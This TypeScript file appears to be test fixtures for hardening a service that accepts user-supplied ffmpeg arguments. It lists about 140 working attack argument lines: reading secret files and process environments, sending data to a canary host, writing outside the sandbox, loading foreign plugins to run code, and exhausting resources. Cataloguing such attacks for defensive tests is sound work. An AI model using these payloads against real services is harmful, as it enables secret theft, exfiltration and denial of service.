import { fill, type Places } from './places.ts'

/** One attack by arguments, as it would be typed behind `ffmpeg`. `in` is the input of the job. */
export interface ArgumentAttack {
  readonly id: string
  readonly command: readonly string[]
}

/** Every attack of its kind, proved against a plain ffmpeg 5.1: it read, sent, wrote, ran or never ended. */
export function argumentAttacks(places: Places): Readonly<Record<Kind, readonly ArgumentAttack[]>> {
  const filled = (table: string) => table.trim().split('\n').map((row) => {
    const [id = '', ...words] = row.trim().split(' ')
    return { id, command: words.map((word) => fill(word, places)) }
  })
  return { reads: filled(READS), connects: filled(CONNECTS), writes: filled(WRITES), runs: filled(RUNS), exhausts: filled(EXHAUSTS) }
}

export type Kind = 'reads' | 'connects' | 'writes' | 'runs' | 'exhausts'

/** What somebody would send as args: without the input and the output, which are the hub's to write. */
export function requestedArgs({ command }: ArgumentAttack): readonly string[] {
  const start = command[0] === '-i' && command[1] === 'in' ? 2 : 0
  const end = /^(-|out\.\w+|s%d\.mkv)$/.test(command.at(-1) ?? '') ? -1 : undefined
  return command.slice(start, end)
}

/** The same without `-f`, which would be refused before all else. */
export function withoutFormats(args: readonly string[]): readonly string[] {
  return args.filter((word, index) => word !== '-f' && args[index - 1] !== '-f')
}

const READS = `
R01 -f u8 -ar 8000 -ac 1 -i file:{secret}/flag.txt -c copy -f u8 out.bin
R02 -f u8 -ar 8000 -ac 1 -i concat:{secret}/flag.txt|/etc/hostname -c copy -f u8 out.bin
R03 -f u8 -ar 8000 -ac 1 -i subfile,,start,0,end,90,,:{secret}/flag.txt -c copy -f u8 out.bin
R04 -f u8 -ar 8000 -ac 1 -i concatf:{secret}/list.txt -c copy -f u8 out.bin
R05 -f u8 -ar 8000 -ac 1 -i cache:{secret}/flag.txt -c copy -f u8 out.bin
R05b -f u8 -ar 8000 -ac 1 -i async:file:{secret}/flag.txt -c copy -f u8 out.bin
R06 -f u8 -ar 8000 -ac 1 -i /proc/self/environ -c copy -f u8 out.bin
R07 -f u8 -ar 8000 -ac 1 -i /proc/1/environ -c copy -f u8 out.bin
R08 -f tty -i {secret}/flag.txt -frames:v 1 out.png
R09 -f lavfi -i movie=filename={secret}/private.ts -frames:v 1 out.png
R10 -f lavfi -i amovie=filename={secret}/flag.txt:format_name=u8 -c:a pcm_u8 -f u8 out.bin
R11 -i in -vf movie=filename={secret}/private.ts[m];[in][m]overlay -frames:v 1 out.png
R12 -i in -filter_complex_script {secret}/flag.txt out.mp4
R13 -i in -filter_script:v {secret}/flag.txt out.mp4
R14 -i in -/filter_complex {secret}/flag.txt out.mp4
R15 -i in -vf drawtext=textfile={secret}/flag.txt:fontsize=12 -frames:v 1 out.png
R16 -i in -vf drawtext=text=x:fontfile={secret}/flag.txt -frames:v 1 out.png
R17 -i in -vf subtitles={secret}/private.ts -frames:v 1 out.png
R18 -i in -vf ass={secret}/flag.txt -frames:v 1 out.png
R19 -i in -vf lut3d=file={secret}/flag.txt: -frames:v 1 out.png
R19b -i in -vf lut3d=file={secret}/x.cube -frames:v 1 out.png
R20 -f ffmetadata -i {secret}/app.env -i in -map_metadata 0 -map 1 out.mkv
R20b -f ffmetadata -i {secret}/app.env -i in -map_metadata 0 -map 1 -c copy out.mkv
R20c -f ffmetadata -i {secret}/flag.txt -i in -map_metadata 0 -map 1 -c copy out.mkv
R21 -i in -c copy -attach {secret}/flag.txt -metadata:s:t mimetype=text/plain out.mkv
R22 -i in -an -c:v mpeg4 -pass 2 -passlogfile {secret}/flag out.mp4
R23 -f concat -safe 0 -i {secret}/list.txt -c copy out.ts
R24 -i in -c:v libx264 -fpre:v {secret}/flag.txt out.mp4
R25 -enable_drefs 1 -use_absolute_path 1 -i in -c:a copy -f u8 out.bin
R26 -f u8 -ar 8000 -ac 1 -i pipe:0 -c copy -f u8 out.bin
R27 -f u8 -ar 8000 -ac 1 -i pipe:7 -c copy -f u8 out.bin
R28 -i in -vf sendcmd=f={secret}/flag.txt out.mp4
R29 -f lavfi -i flite=textfile={secret}/flag.txt out.wav
R30 -f image2 -pattern_type glob -i {secret}/*.png -frames:v 1 out.png
R31 -f rawvideo -pix_fmt gray -s 10x10 -i {secret}/flag.txt -frames:v 1 -f rawvideo out.bin
R32 -i in -vf curves=psfile={secret}/flag.txt -frames:v 1 out.png
R33 -i in -vf removelogo={secret}/private.ts -frames:v 1 out.png
R34 -f lavfi -i life=filename={secret}/flag.txt -frames:v 1 out.png
R35 -f lavfi -i cellauto=filename={secret}/flag.txt -frames:v 1 out.png
R36 -f lavfi -graph_file {secret}/flag.txt -i x -frames:v 1 out.png
R37 -i in -c copy -f hls -hls_key_info_file {secret}/flag.txt out.m3u8
R38 -i in -c:v libx264 -x264-params cqmfile={secret}/flag.txt -frames:v 1 out.mp4
R39 -i in -c:v libx265 -x265-params lambda-file={secret}/flag.txt -frames:v 1 out.mp4
R40 -i in -c:v libaom-av1 -cpu-used 8 -aom-params film-grain-table={secret}/flag.txt -frames:v 1 out.mkv
R41 -ca_file {secret}/flag.txt -i https://{canary}/tls out.mp4
R42 -i in -vf sr=model={secret}/flag.txt -frames:v 1 out.png
R43 -i in -af arnndn=m={secret}/flag.txt out.wav
R44 -f vobsub -sub_name {secret}/private.ts -i in -map 0 -c copy out.mkv
R45 -i ../../neighbour/out.mp4 -c copy out.mp4
R46 -f image2 -i {secret}/flag%d.png -frames:v 1 out.png
R47 -f u8 -ar 8000 -ac 1 -i data:text/plain;base64,RkxBR3s= -c copy -f u8 out.bin
`

const CONNECTS = `
N01 -f u8 -ar 8000 -ac 1 -i http://{canary}/N01 -c copy -f u8 out.bin
N02 -i in -c copy -f mpegts http://{canary}/N02
N03 -i in -c copy -progress http://{canary}/N03 out.mkv
N04 -i in -c copy -map 0 -f tee [f=mpegts]http://{canary}/N04
N05 -i in -c copy -f hls -method PUT http://{canary}/N05.m3u8
N06 -f lavfi -i movie=filename=http\\\\://{canary:escaped}/N06.mp4 -frames:v 1 out.png
N07 -i in -vf subtitles=filename=http\\\\://{canary:escaped}/N07.srt -frames:v 1 out.png
N08 -f u8 -ar 8000 -ac 1 -i tcp://{canary} -t 1 -c copy -f u8 out.bin
N09 -f u8 -ar 8000 -ac 1 -i gopher://{canary}/1GET%20/N09 -c copy -f u8 out.bin
N10 -listen 1 -f u8 -i http://127.0.0.1:0/ -t 1 out.wav
N11 -i in -c copy -f mpegts udp://{canary}
N12 -i in -c copy -f mpegts unix:{outside}/canary.sock
N13 -i in -vf zmq=bind_address=tcp\\\\://127.0.0.1\\\\:0 -t 1 out.mp4
N14 -i rtmp://{canary}/N14 -t 1 out.wav
N15 -i rtsp://{canary}/N15 -t 1 out.wav
N16 -headers X-Injected:1 -method DELETE -f u8 -i http://{canary}/N16 -t 1 out.wav
N17 -i in -vf drawtext=textfile=http\\\\://{canary:escaped}/N17 -frames:v 1 out.png
N18 -i in -c copy -f dash -http_persistent 0 http://{canary}/N18.mpd
N19 -f pulse -server tcp:{canary} -i default -t 1 out.wav
N20 -i in -vn -c:a libmp3lame -f mp3 icecast://u:p@{canary}/N20
N21 -i in -c copy -f mpegts md5:http://{canary}/N21
N22 -gateway http://{canary}/ -i ipfs://QmFoo out.mp4
N23 -f u8 -i tls://{canary} -t 1 out.wav
`

const WRITES = `
W01 -i in -c copy -y {outside}/W01.mp4
W02 -i in -c copy -y ../../neighbour/out.mp4
W03 -i in -c copy -y file:{outside}/W03.mp4
W04 -dump_attachment:t {outside}/W04 -i in -f null -
W05 -dump_attachment:t {nothing} -i in -f null -
W06 -report -i in -f null -
W08 -i in -an -c:v libx264 -pass 1 -passlogfile {outside}/W08 -f null -
W09 -i in -vstats_file {outside}/W09 -f null -
W10 -i in -progress {outside}/W10 -f null -
W11 -i in -c copy -map 0 -f tee out.mkv|{outside}/W11.mkv
W12 -i in -c copy -f segment {outside}/W12-%d.mkv
W13 -i in -c copy -f segment -segment_list {outside}/W13.csv s%d.mkv
W14 -i in -c copy -f hls -hls_segment_filename {outside}/W14-%d.ts out.m3u8
W15 -i in -c copy -f hls -hls_segment_type fmp4 -hls_fmp4_init_filename {outside}/W15.mp4 out.m3u8
W16 -i in -c copy -f dash -init_seg_name {outside}/W16-$RepresentationID$.mp4 out.mpd
W17 -i in -vf metadata=print:file={outside}/W17 -f null -
W18 -i in -vf vidstabdetect=result={outside}/W18 -f null -
W19 -i in -i in -lavfi psnr=stats_file={outside}/W19 -f null -
W20 -i in -c:v libx265 -x265-params csv={outside}/W20.csv:csv-log-level=2 -f null -
W21 -i in -c:v libx264 -x264-params pass=1:stats={outside}/W21 -f null -
W22 -i in -c:v libx265 -x265-params analysis-save={outside}/W22:analysis-save-reuse-level=2 -f null -
W23 -i in -vf signature=filename={outside}/W23 -f null -
W24 -i in -vf curves=preset=vintage:plot={outside}/W24 -f null -
W25 -i in -vf deshake=filename={outside}/W25 -f null -
W26 -i in -af firequalizer=dumpfile={outside}/W26 -f null -
W27 -i in -lavfi split[a][b];[a]palettegen[p];[b][p]paletteuse=debug_kdtree={outside}/W27 -f null -
W28 -f lavfi -i testsrc=s=320x240:d=1 -f mp4 -y in
W29 -i in -c copy -f hls -strftime 1 -strftime_mkdir 1 -hls_segment_filename {outside}/W29/%Y/s.ts out.m3u8
W30 -f lavfi -i anullsrc=d=0.1 -metadata title=<script>alert(1)</script> -f ffmetadata {outside}/W30.html
W31 -i in -an -c:v copy -f rtp -sdp_file {outside}/W31.sdp rtp://{canary}
W32 -i in -c copy -f hls -hls_time 0.2 -hls_list_size 1 -hls_flags delete_segments -hls_segment_filename {outside}/W32-%d.ts out.m3u8
W33 -i in -c copy -f mpegts -y /dev/full
W34 -i in -an -c:v libvpx -f webm_chunk -header {outside}/W34.hdr -chunk_start_index 1 {outside}/W34_%d.chk
W35 -i in -an -c:v copy -f segment -segment_format mkv -segment_header_filename {outside}/W35.hdr s%d.mkv
`

const RUNS = `
X01 -f lavfi -i sine=d=0.1 -af ladspa=file=./in:plugin=x out.wav
X02 -f lavfi -i testsrc=s=320x240:d=1 -vf frei0r=filter_name=../../../../../../..{outside}/evil out.mp4
X03 -i in -c:v h264_omx -omx_libname ./in out.mp4
X04 -i in -af lv2=p=http\\\\://x out.wav
X05 -init_hw_device opencl=ocl -i in -f null -
X06 -init_hw_device vaapi=va:,driver=../../../..{outside}/evil -i in -f null -
X07 -i in -vf program_opencl=source=/etc/passwd:kernel=x -f null -
X08 -i in -vf libplacebo=custom_shader_path={secret}/flag.txt -f null -
X09 -i in -af ladspa=file=/proc/self/fd/3:plugin=x out.wav
`

const EXHAUSTS = `
D01 -stream_loop -1 -i in -c copy -f mpegts out.ts
D02 -f lavfi -i testsrc -c:v rawvideo -f rawvideo out.raw
D03 -i in -vf scale=30000:30000 -frames:v 1 out.png
D04 -i in -vf fps=1000000 -c:v rawvideo -f rawvideo out.raw
D05 -i in -r 1000000 -c:v libx264 -preset ultrafast out.mp4
D06 -readrate 0.0001 -i in -f null -
D07 -i in -vf geq=lum='while(1,0)' -f null -
D08 -f lavfi -i testsrc=s=3840x2160 -vf reverse -f null -
D09 -f lavfi -i testsrc=s=3840x2160 -vf loop=-1:size=32767 -f null -
D10 -i in -vf tpad=stop=-1 -c:v rawvideo -f rawvideo out.raw
D11 -f lavfi -i testsrc=s=16x16:r=100000 -f image2 f%08d.bmp
D12 -threads 1000 -i in -threads 1000 -c:v libx264 out.mp4
D13 -loglevel trace -stream_loop -1 -i in -vf showinfo -f null -
D14 -probesize 2147483647 -analyzeduration 9223372036854775807 -f lavfi -i testsrc -f null -t 1 -
D15 -f lavfi -i nullsrc=s=16384x16384 -frames:v 3 -c:v ffv1 out.mkv
D16 -i in -map 0:v -c copy -f null - -map 0:v -c copy -f null - -map 0:v -c copy -f null -
D17 -i in -filter_complex split=2000[a0][a1][a2][a3] -f null -
D18 -i in -vf setpts='if(gt(N,0),PTS+360000/TB,PTS)' -c:v libx264 -preset ultrafast out.mp4
D19 -i in -vf scale=3840:2160,nlmeans=s=30:p=99:r=99 -frames:v 1 -f null -
D20 -f u8 -i pipe:0 -f null -
D21 -itsoffset 1000000 -i in -vsync cfr -c:v rawvideo -f rawvideo out.raw
D22 -thread_queue_size 100000000 -f lavfi -i testsrc=s=1920x1080 -map 0:v -max_muxing_queue_size 100000000 -t 2 -f null -
D23 -i in -vf zoompan=d=1000000000:s=1920x1080 -c:v libx264 -preset ultrafast out.mp4
D24 -i in -vn -af apad -c:a pcm_s16le out.wav
`
